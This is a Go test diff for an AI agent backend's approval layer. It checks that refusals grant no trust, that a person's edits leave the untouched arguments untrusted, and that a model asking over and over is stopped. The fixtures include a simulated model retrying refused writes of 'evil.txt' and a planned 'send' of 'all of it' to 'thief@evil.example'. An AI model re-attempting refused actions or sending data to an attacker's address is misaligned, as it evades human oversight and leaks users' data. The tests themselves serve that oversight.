@@ -15,6 +15,7 @@ import (
 	"agentchat/backend/apperr"
 	"agentchat/backend/ask"
 	"agentchat/backend/event"
+	"agentchat/backend/interpreter"
 	"agentchat/backend/job"
 	"agentchat/backend/job/jobtest"
 	"agentchat/backend/policy"
@@ -343,5 +344,93 @@ func TestNoEffectWithoutARight(t *testing.T) {
 				t.Fatalf("the audit log knows of %d effects, %d happened", done, ran)
 			}
 		})
+	})
+}
+
+// What a person says in refusing names what must not be: it makes no value their own, neither for the same call made again
+// nor for a tool that asks nothing by itself.
+func TestARefusalMakesNoValueTheCustomersOwn(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		w := newWriter(toolbox.ConfirmNever, toolbox.ScopeAlways)
+		f := jobtest.Open(t, w).Start(1)
+		f.Model.OnSolve = func(_ context.Context, b interpreter.Brief) (provider.Solution, error) {
+			if len(b.Rounds) == 3 {
+				return provider.Solution{Text: "enough"}, nil
+			}
+			path := []string{"evil.txt", "./evil.txt", "notes/evil.txt"}[len(b.Rounds)]
+			return provider.Solution{Calls: []provider.CallRequest{{Tool: "write", Args: json.RawMessage(`{"path":"` + path + `"}`)}}}, nil
+		}
+		id := asked(f, "main", "tidy up", provider.JobPlan{Title: "tidy", Todos: []provider.TodoPlan{{Title: "tidy", Request: "tidy up"}}})
+		for n := range 3 {
+			a := f.Question(id)
+			if len(a.Origins) != 1 || a.Origins[0].Trusted || n > 0 && a.Origins[0].From != policy.FromRefusal {
+				t.Fatalf("the %dth question: %+v", n+1, a.Origins)
+			}
+			f.Say("job:"+id, "no evil.txt, not in notes either") // as it is said in the job's own chat
+			f.Answer(id, ask.Reply{Choice: ask.ChoiceReject, Text: "no evil.txt, not in notes either"})
+		}
+		f.WantState(id, job.Succeeded)
+		if n := len(w.Runs()); n > 0 {
+			t.Errorf("it ran %d times", n)
+		}
+	})
+}
+
+// A person who changes one value of a call has not said the others.
+func TestAnEditLeavesTheOtherValuesWhatTheyWere(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		send := jobtest.NewTool("send")
+		send.Manual.Effect, send.Manual.Consequential = toolbox.EffectOnce, []string{"to", "text"}
+		send.Manual.Params = json.RawMessage(`{"type":"object","additionalProperties":false,"required":["to","text"],"properties":{"to":{"type":"string"},"text":{"type":"string"}}}`)
+		f := jobtest.Open(t, send).Start(1)
+		id := asked(f, "main", "greet them", provider.JobPlan{Title: "greet", Todos: []provider.TodoPlan{
+			{Title: "greet", Tool: "send", Request: "greet", Args: json.RawMessage(`{"text":"all of it","to":"thief@evil.example"}`)},
+		}})
+		f.Answer(id, ask.Reply{Choice: ask.ChoiceEdit, Args: json.RawMessage(`{"text":"hello","to":"thief@evil.example"}`)})
+		f.Answer(id, ask.Reply{Choice: ask.ChoiceEdit, Args: json.RawMessage(`{"text":"hi","to":"thief@evil.example"}`)})
+		trusted := map[string]bool{}
+		for _, o := range f.Question(id).Origins {
+			trusted[o.Arg] = o.Trusted
+		}
+		if trusted["to"] || !trusted["text"] {
+			t.Errorf("trusted: %v", trusted)
+		}
+	})
+}
+
+// The limit holds in a loop, whose model may ask for other things in every round.
+func TestALoopThatAsksAndAsksIsEnded(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		f := jobtest.Open(t, jobtest.Approved("pay", toolbox.ConfirmAlways)).Start(1)
+		f.Rounds = 50
+		n := 0
+		f.Model.OnSolve = func(_ context.Context, b interpreter.Brief) (provider.Solution, error) {
+			n++
+			return provider.Solution{Calls: []provider.CallRequest{
+				{Tool: "pay", Args: json.RawMessage(fmt.Sprintf(`{"n":%d}`, 2*n))}, {Tool: "pay", Args: json.RawMessage(fmt.Sprintf(`{"n":%d}`, 2*n+1))},
+			}}, nil
+		}
+		id := f.Give("")
+		asks := 0
+		for ; f.Job(id).State == job.Waiting; asks++ {
+			choice := ask.ChoiceReject
+			if asks == 2 { // an approval begins the count anew
+				choice = ask.ChoiceApprove
+			}
+			f.Answer(id, ask.Reply{Choice: choice, Text: map[string]string{ask.ChoiceReject: "no"}[choice]})
+		}
+		if asks != 3+job.DefaultAsksPerJob || f.Job(id).Code != apperr.TooManyAsks {
+			t.Errorf("%d questions, then %s", asks, f.Job(id).Code)
+		}
+		rejected := 0
+		for _, e := range audit(f) {
+			if e.Outcome == policy.AuditRejected {
+				rejected++
+			}
+		}
+		if rejected != asks-1 {
+			t.Errorf("the audit log knows of %d refusals of %d", rejected, asks-1)
+		}
+		f.NothingOut()
 	})
 }
